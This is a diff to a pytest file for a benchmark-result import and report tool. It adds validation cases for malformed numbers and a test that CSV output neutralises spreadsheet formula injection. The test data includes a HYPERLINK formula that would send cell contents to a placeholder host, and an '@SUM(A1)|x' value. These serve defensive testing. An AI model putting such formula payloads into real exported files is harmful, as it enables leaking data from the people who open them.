@@ -1,6 +1,9 @@
 """The files of other tools: what we write in vLLM's form, and what others wrote, read as rows of a run."""
 
+import csv
+import io
 import json
+import math
 from pathlib import Path
 
 import pytest
@@ -164,6 +167,13 @@ def test_an_imported_row_is_compared_and_the_comparison_says_who_measured(tmp_pa
         ("guidellm.json", ("benchmarks", 0, "metrics", "request_totals"), None, "KeyError: 'request_totals'"),
         ("aiperf.json", ("input_config", "phases"), [], "IndexError"),
         ("aiperf.json", ("benchmark_duration", "avg"), 0.0, "ZeroDivisionError"),
+        ("aiperf.json", ("benchmark_duration", "avg"), -1.0, "ValueError: duration=-1.0: expected a number from 0"),
+        ("vllm_bench.json", ("output_throughput",), "1e9", "ValueError: output_throughput='1e9': expected a number"),
+        ("vllm_bench.json", ("completed",), -5, "ValueError: num_requests=-5: expected a number from 0"),
+        ("vllm_bench.json", ("failed",), -5, "ValueError: num_failed=-5: expected a number from 0"),
+        ("vllm_bench.json", ("total_input_tokens",), True, "ValueError: input_tokens=True: expected a number from 0"),
+        ("vllm_bench.json", ("median_tpot_ms",), -1, "ValueError: tpot_p50=-0.001: expected a number from 0"),
+        ("vllm_bench.json", ("duration",), math.nan, "ValueError: duration=nan: expected a number from 0"),
     ],
 )
 def test_a_file_that_lacks_something_is_not_taken_for_another_tools(tmp_path, capsys, name, keys, value, problem):
@@ -172,12 +182,33 @@ def test_a_file_that_lacks_something_is_not_taken_for_another_tools(tmp_path, ca
     part = content
     for key in parents:
         part = part[key]
-    del part[last]
+    part.pop(last, None)
     if value is not None:
         part[last] = value
     (tmp_path / "x.json").write_text(json.dumps(content))
     assert main(["import", str(tmp_path / "x.json"), str(tmp_path / "out")]) == 2
     assert f"incomplete, or of another version of its tool ({problem}" in capsys.readouterr().err
+
+
+def test_a_name_that_is_a_formula_stands_in_csv_as_text(tmp_path, capsys):
+    content = json.loads((FILES / "vllm_bench.json").read_text())
+    formula = '=HYPERLINK("http://x"&A1)'
+    (tmp_path / "x.json").write_text(json.dumps(content | {"model_id": formula}))
+    run = str(tmp_path / "run")
+    for backend in ("@SUM(A1)|x", "vllm"):
+        assert main(["import", str(tmp_path / "x.json"), str(tmp_path / backend[1:4]), f"backend={backend}"]) == 0
+    runs = [str(tmp_path / "SUM"), str(tmp_path / "llm")]
+    assert main(["report", *runs, "--output", run]) == 0
+    assert main(["report", runs[0]]) == 0
+    capsys.readouterr()
+    printed = [(Path(folder) / "summary.csv").read_text() for folder in (run, runs[0])]
+    for command in (["summary"], ["compare"]):
+        main([*command, *runs, "--format", "csv"])
+        printed.append(capsys.readouterr().out)
+    for text in printed:
+        cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
+        assert not [cell for cell in cells if cell.startswith(("=", "@", "+"))]
+        assert any(cell.startswith(("'=HYPERLINK", "'@SUM")) for cell in cells), text
 
 
 def test_a_file_of_no_known_tool_and_a_used_folder_are_refused(tmp_path, capsys):
